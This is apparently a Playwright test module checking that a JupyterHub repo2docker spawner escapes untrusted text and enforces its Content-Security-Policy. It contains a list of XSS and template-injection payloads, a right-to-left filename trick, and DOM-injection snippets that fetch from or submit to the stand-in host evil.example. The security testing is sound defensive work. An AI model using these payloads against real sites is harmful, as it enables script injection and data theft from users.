"""Texts of strangers on the pages: they stay text, and would not run if they didn't."""

from __future__ import annotations

import json
import secrets
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode, urlsplit

import docker
import pytest
from playwright.sync_api import Browser, Page, expect
from testbed import names
from testbed.browsing import watch_policy
from testbed.hub import HubProcess
from testbed.ready import make_ready_image

SCRIPTED = (Path(__file__).parent / "scripted.py").read_text(encoding="utf-8")
SCRIPTED = SCRIPTED.replace("from __future__ import annotations\n", "")
HUB5 = str(names.ROOT / ".venv-hub5/bin/python")
PAYLOADS = [
    '<img id=evil src=x onerror="alert(1)">',
    "<script id=evil>alert(2)</script>",
    "</script><script id=evil>alert(3)</script>",
    "</textarea></pre></title><svg id=evil onload=alert(4)>",
    '"><b id=evil onmouseover=alert(5)>x</b>',
    "'><i id=evil onfocus=alert(6) autofocus tabindex=1>",
    "javascript:alert(7)",
    "JaVaScRiPt:alert(8)//",
    "{{7*7}}{{ config }}",
    "{% raw %}{{ 7*7 }}",
    "{0.__class__}{raw_username.__class__}",
    "${7*7}<%= 7*7 %>#{7*7}",
    "&lt;img id=evil src=x onerror=alert(9)&gt;",
    "&#60;img id=evil src=x onerror=alert(10)&#62;",
    '<iframe id=evil srcdoc="<script>parent.alert(11)</script>"></iframe>',
    '<a id=evil href="javascript:alert(12)">x</a>',
    "<style id=evil>body{display:none}</style>",
    '<base id=evil href="https://evil.example/">',
    '<meta id=evil http-equiv=refresh content="0;url=https://evil.example/">',
    "<form id=evil action=https://evil.example/><input name=_xsrf>",
    "\\u003cimg id=evil src=x onerror=alert(13)\\u003e",
    "]]><!--<img id=evil src=x onerror=alert(14)>-->",
]
RIGHT_TO_LEFT = "\u202egnp.exe\u2066"
PROFILES = [
    {"display_name": payload, "slug": f"p{at}", "description": payload}
    for at, payload in enumerate(PAYLOADS)
]
FORM = f"""
c.Repo2DockerSpawner.profiles = {PROFILES!r}
c.Repo2DockerSpawner.default_image_name = {PAYLOADS[0]!r}
c.Repo2DockerSpawner.default_image_text = {PAYLOADS[1]!r}
"""
OURS = SCRIPTED + FORM
STOCK = SCRIPTED.replace("spawner=Scripted)", "spawner=Scripted, templates=False)")
# Elements that only a payload makes, and what an element of ours never has.
MADE = """() => [
  ...document.querySelectorAll(
    "#evil, img[src=x], iframe, object, embed, base, form[action^='https://evil'], [srcdoc]"),
  ...[...document.querySelectorAll("*")].filter(one =>
    one.getAttributeNames().some(name => name.startsWith("on")) ||
    /^javascript:/i.test(one.getAttribute("href") || one.getAttribute("action") || "")),
].map(one => one.outerHTML.slice(0, 200))"""

Hubs = Callable[..., HubProcess]


@pytest.fixture(scope="module")
def hubs() -> Iterator[Hubs]:
    """Hubs by their configuration and version, each started once."""
    running: dict[Any, HubProcess] = {}

    def get(config: str, python: str = sys.executable) -> HubProcess:
        if (config, python) not in running:
            hub = HubProcess(config, python=python)
            running[config, python] = hub
            hub.start()
        return running[config, python]

    yield get
    for hub in running.values():
        hub.close()


class Visitor:
    """Somebody's browser, in which nothing of a payload may happen."""

    def __init__(self, browser: Browser, hub: HubProcess, name: str = "") -> None:
        self.hub, self.name = hub, name or f"ann-{secrets.token_hex(3)}"
        self.context = browser.new_context(viewport={"width": 1000, "height": 800})
        self.context.set_default_timeout(15_000)
        self.breaches = watch_policy(self.context)
        self.happened: list[str] = []
        self.page = self.context.new_page()
        self.page.on("dialog", self._dialog)
        self.page.on("request", self._request)
        self.page.goto(f"{hub.url}hub/login")
        self.page.fill("#username_input", self.name)
        self.page.fill("#password_input", "password")
        self.page.click("#login_submit")
        self.page.wait_for_url("**/hub/**")

    def _dialog(self, dialog: Any) -> None:
        self.happened.append(dialog.message)
        dialog.dismiss()

    def _request(self, request: Any) -> None:
        address = urlsplit(request.url)
        if address.hostname == "evil.example" or address.path.endswith("/x"):
            self.happened.append(request.url)

    def path(self, server: str = "") -> str:
        return quote(self.name) + (f"/{quote(server)}" if server else "")

    def start(self, *orders: dict[str, Any], server: str = "", **options: str) -> Page:
        """Start what the script says, and go to the page that waits."""
        script = self.hub.directory / f"launch-{self.name}-{server}.jsonl"
        script.write_text("".join(json.dumps(order) + "\n" for order in orders), encoding="utf-8")
        path = f"users/{quote(self.name)}/" + (f"servers/{quote(server)}" if server else "server")
        answer = self.hub.api("POST", path, {"repo": "https://github.com/geo/course", **options})
        assert answer.status_code in {201, 202}, answer.text
        self.page.goto(f"{self.hub.url}hub/spawn-pending/{self.path(server)}")
        return self.page

    def stop(self, server: str = "") -> None:
        path = f"users/{quote(self.name)}/" + (f"servers/{quote(server)}" if server else "server")
        self.hub.api("DELETE", path)

    def is_unharmed(self) -> None:
        self.page.wait_for_timeout(200)
        assert self.page.evaluate(MADE) == []
        assert self.happened == []
        assert self.breaches == []


@pytest.fixture
def come(browser: Browser) -> Iterator[Callable[..., Visitor]]:
    """``come(hub, name="")`` is somebody's browser."""
    visitors: list[Visitor] = []

    def enter(hub: HubProcess, name: str = "") -> Visitor:
        visitors.append(Visitor(browser, hub, name))
        return visitors[-1]

    yield enter
    for visitor in visitors:
        visitor.context.close()
        visitor.stop()


def shown(page: Page, selector: str = "body") -> str:
    """The text as the page has it, hidden parts too."""
    return "\n".join(page.locator(selector).all_text_contents())


def log_of(lines: list[str]) -> list[dict[str, Any]]:
    first, last = lines[:-1], lines[-1]
    resolved = {
        "do": "resolved",
        "name": " ".join(PAYLOADS),
        "ref": " ".join(PAYLOADS),
        "commit": PAYLOADS[0],
        "short": PAYLOADS[1],
        "subdir": " ".join(PAYLOADS),
    }
    return [
        {"do": "say", "text": " ".join(PAYLOADS), "phase": "waiting"},
        resolved,
        {"do": "print", "text": "\n".join(first)},
        *({"do": "print", "text": line} for line in first),
        {"do": "print", "text": last},
    ]


FAIL = {"do": "fail", "text": " ".join(PAYLOADS), "lines": PAYLOADS}


@pytest.mark.parametrize(
    ("config", "python", "log"),
    [
        pytest.param(OURS, sys.executable, "#repo2docker-log", id="our page"),
        pytest.param(STOCK, sys.executable, "#progress-log", id="JupyterHub 6's page"),
        pytest.param(
            STOCK,
            HUB5,
            "#progress-log",
            id="JupyterHub 5's page",
            marks=pytest.mark.skipif(not Path(HUB5).exists(), reason="no .venv-hub5 here"),
        ),
    ],
)
def test_what_is_started_printed_and_failed_stays_text(
    hubs: Hubs, come: Callable[..., Visitor], config: str, python: str, log: str
) -> None:
    ann = come(hubs(config, python))
    page = ann.start(*log_of([*PAYLOADS, "the end"]))
    expect(page.locator(log)).to_contain_text("the end")
    text = shown(page, log)
    assert [one for one in PAYLOADS if one not in text] == []
    ann.is_unharmed()
    if config == OURS:
        for place in ("#repo2docker-name", "#repo2docker-target"):
            assert [one for one in PAYLOADS if one not in shown(page, place)] == []
        page.reload()
        expect(page.locator(log)).to_contain_text("the end")
        ann.is_unharmed()
        # what was downloaded, and the page without scripts
        assert shown(page, "noscript").count("id=evil") >= len(PAYLOADS) // 2

    with (ann.hub.directory / f"launch-{ann.name}-.jsonl").open("a", encoding="utf-8") as script:
        script.write(json.dumps(FAIL) + "\n")
    expect(page.locator("#progress-bar")).to_have_class("progress-bar bg-danger")
    told = shown(page)
    assert [one for one in PAYLOADS if one not in told] == []
    ann.is_unharmed()
    page.reload()
    page.wait_for_load_state()
    told = " ".join(shown(page, "h1, p, pre").split())
    assert [one for one in PAYLOADS if one not in told] == []
    ann.is_unharmed()


def test_what_is_typed_linked_and_refused_stays_text(
    hubs: Hubs, come: Callable[..., Visitor]
) -> None:
    ann = come(hubs(OURS))
    page = ann.page
    fields = ("repo", "ref", "subdir", "path", "urlpath", "environment", "profile", "image")
    for payload in PAYLOADS:
        query = urlencode({f"opt-{name}": payload for name in fields[:5]})
        page.goto(f"{ann.hub.url}hub/spawn?{query}")
        assert page.input_value("[name=repo]") == payload.strip()
        assert page.input_value("[name=urlpath]") == payload.strip()
        assert page.evaluate(MADE) == []
    ann.is_unharmed()
    for at, name in enumerate(fields):
        payload = PAYLOADS[at]
        repo = {} if at > 4 or name == "repo" else {"opt-repo": "geo/course"}
        page.goto(f"{ann.hub.url}hub/spawn?{urlencode({**repo, f'opt-{name}': payload})}")
        ann.is_unharmed()
        if name in fields[:5]:
            page.click("#spawn_form [type=submit]")
            page.wait_for_load_state()
            ann.is_unharmed()
            ann.stop()  # a path may be anything


def test_environments_profiles_and_labels_stay_text(
    hubs: Hubs, come: Callable[..., Visitor], docker_client: docker.DockerClient
) -> None:
    made = [make_ready_image(docker_client, payload) for payload in PAYLOADS[:6]]
    made.append(make_ready_image(docker_client, f"{' '.join(PAYLOADS[6:])}"))
    made.append(make_ready_image(docker_client, RIGHT_TO_LEFT, commit=PAYLOADS[0]))
    try:
        ann = come(hubs(OURS))
        ann.page.goto(f"{ann.hub.url}hub/spawn")
        listed = shown(ann.page, "#repo2docker-environments")
        assert [one for one in PAYLOADS if one not in " ".join(listed.split())] == []
        assert not set(RIGHT_TO_LEFT[::8]) & set(listed)
        profiles = shown(ann.page, "#repo2docker-profiles")
        assert [one for one in PAYLOADS if profiles.count(one) < 2] == []
        ann.is_unharmed()
        # the summary of a link names the environment
        ann.page.goto(f"{ann.hub.url}hub/spawn?opt-environment={made[0].key}")
        assert PAYLOADS[0] in shown(ann.page, "#repo2docker-link")
        ann.is_unharmed()
    finally:
        for image in made:
            docker_client.api.remove_image(image.name, force=True)


@pytest.mark.parametrize(
    "name",
    ["<img id=evil src=x onerror=alert(1)>", '"><b id=evil onfocus=alert(5)>', "{{7*7}}{0.a}'"],
)
def test_a_user_s_and_a_server_s_name_stay_text(
    hubs: Hubs, come: Callable[..., Visitor], name: str
) -> None:
    eve = come(hubs(OURS), f"{name}{secrets.token_hex(2)}")
    eve.page.goto(f"{eve.hub.url}hub/spawn/{eve.path()}")
    eve.is_unharmed()
    page = eve.start(*log_of(["x", "the end"]))
    expect(page.locator("#repo2docker-log")).to_contain_text("the end")
    eve.is_unharmed()
    eve.stop()
    page.reload()
    eve.is_unharmed()


@pytest.mark.skipif(not Path(HUB5).exists(), reason="no .venv-hub5 here")
def test_a_server_s_name_stays_text(hubs: Hubs, come: Callable[..., Visitor]) -> None:
    # JupyterHub 6 takes letters, digits and hyphens only
    server = "<img id=evil src=x onerror=alert(1)>'\"{{7*7}}{0.a}"
    ann = come(hubs(OURS, HUB5))
    page = ann.start(*log_of(["x", "the end"]), server=server)
    expect(page.locator("#repo2docker-log")).to_contain_text("the end")
    ann.is_unharmed()
    page.goto(f"{ann.hub.url}hub/spawn/{ann.path('other' + server)}")
    ann.is_unharmed()
    ann.stop(server)
    page.goto(f"{ann.hub.url}hub/spawn-pending/{ann.path(server)}")
    ann.is_unharmed()


# --- and if one of them became an element

INJECTED = {
    "an attribute": "box.innerHTML = '<img src=x onerror=\"window.broken = 1\">'",
    "jQuery's html()": "$(box).html('<script>window.broken = 1</script>')",
    "a script of this origin by jQuery": "$(box).html('<script src=\"/hub/login\"></script>')",
    "a script": "const s = document.createElement('script'); s.text = 'window.broken = 1'; "
    "box.append(s)",
    "a script of another site": "const s = document.createElement('script'); "
    "s.src = 'https://evil.example/x.js'; box.append(s)",
    "a link": "box.innerHTML = '<a href=\"javascript:window.broken = 1\">x</a>'; "
    "box.firstChild.click()",
    "a frame": "box.innerHTML = '<iframe srcdoc=\"<script>parent.broken = 1</script>\"></iframe>'",
    "an object": "box.innerHTML = '<object data=\"data:text/html,x\"></object>'",
    "a request": "fetch('https://evil.example/').catch(() => {})",
    "a form": "box.innerHTML = '<form action=\"https://evil.example/\"></form>'; "
    "box.firstChild.submit()",
    "a base": "document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example/\">')",
}


@pytest.mark.parametrize("python", [sys.executable, HUB5], ids=["hub", "hub5"])
@pytest.mark.parametrize("which", ["spawn", "spawn-pending", "failed"])
def test_what_became_an_element_does_not_run(
    hubs: Hubs, come: Callable[..., Visitor], which: str, python: str
) -> None:
    if not Path(python).exists():
        pytest.skip("no .venv-hub5 here")
    ann = come(hubs(OURS, python))
    page = ann.page
    if which == "spawn":
        page.goto(f"{ann.hub.url}hub/spawn")
    else:
        page = ann.start(*([FAIL] if which == "failed" else []))
        page.reload()
    page.wait_for_load_state()
    (policy,) = page.locator("meta[http-equiv=Content-Security-Policy]").all()
    assert "unsafe-eval" not in str(policy.get_attribute("content"))
    for what, script in INJECTED.items():
        ann.breaches.clear()
        # a script of the page's own does it, as a fault of ours would
        page.evaluate(
            "text => { const box = document.body.appendChild(document.createElement('div'));"
            f" {script}; }}",
            "",
        )
        page.wait_for_timeout(100)
        assert ann.breaches, what
        assert page.evaluate("window.broken") is None, what
        assert page.evaluate("document.baseURI").startswith(ann.hub.url), what
    ann.happened.clear()
